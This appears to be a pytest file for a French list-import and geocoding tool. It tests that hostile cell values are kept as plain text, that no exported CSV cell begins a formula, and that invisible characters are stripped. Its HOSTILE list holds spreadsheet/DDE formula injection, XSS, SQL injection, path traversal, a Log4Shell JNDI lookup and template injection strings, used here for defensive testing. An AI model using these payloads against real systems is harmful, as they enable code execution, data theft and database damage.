"""Cells that mean harm come out as text: in the list, in the report, and back from both."""

import csv
import io

import pandas as pd
import pytest

from citeoscope.lists import read_imported

HOSTILE = [
    '=HYPERLINK("http://a.example","b")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "Robert'); DROP TABLE lieux;--",
    "../../etc/passwd",
    "a\nb",
    'guillemet " au milieu',
    "virgule, point-virgule ; barre |",
    "${jndi:ldap://a.example}",
    "{{7*7}}",
    "🎈 Œuvre Ñ",
]
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def report(bring, rows):
    return bring(rows(["nom", "description", "autre", "commune"], *([cell, cell, cell, "Lille"] for cell in HOSTILE)))


def test_every_hostile_row_is_kept_word_for_word(report, tmp_path):
    assert report.rows["nom"].tolist() == HOSTILE
    assert read_imported(tmp_path, "liste")["nom"].tolist() == HOSTILE


def test_no_cell_of_the_report_or_of_the_list_starts_a_formula(report, tmp_path):
    written = next((tmp_path / "listes").glob("*.csv")).read_text(encoding="utf-8")
    for text in (report.to_csv().decode("utf-8-sig"), written):
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if cell.startswith(FORMULAS)]


def test_the_report_is_read_by_pandas_as_it_is(report):
    frame = pd.read_csv(io.BytesIO(report.to_csv()))
    assert list(frame)[:7] == ["row", "outcome", "reason", "commune_code", "latitude", "longitude", "precision"]
    assert list(frame)[7:] == ["nom", "description", "autre", "commune"]
    assert len(frame) == len(HOSTILE)
    assert frame["latitude"].dtype == "float64"


def test_an_original_column_never_hides_one_of_ours(bring, rows):
    frame = pd.read_csv(io.BytesIO(bring(rows(["nom", "latitude", "longitude", "row"], ["A", 48.3, -0.5, 7])).to_csv()))
    assert list(frame)[7:] == ["nom", "latitude (liste)", "longitude (liste)", "row (liste)"]
    assert frame.loc[0, ["row", "row (liste)"]].tolist() == [2, 7]
    assert frame.loc[0, "longitude (liste)"] == -0.5  # a negative number is no formula


def test_marks_that_cannot_be_seen_are_taken_out(bring, rows):
    report = bring(rows(["nom", "commune"], ["La \u202eeébuoB\u202c\u200f\x00\x07", "Lil\u200ble"]))
    assert report.rows["nom"].tolist() == ["La eébuoB"]
    assert report.rows["code_insee"].tolist() == ["59350"]
    assert any("Caractères invisibles" in remark for remark in report.remarks)
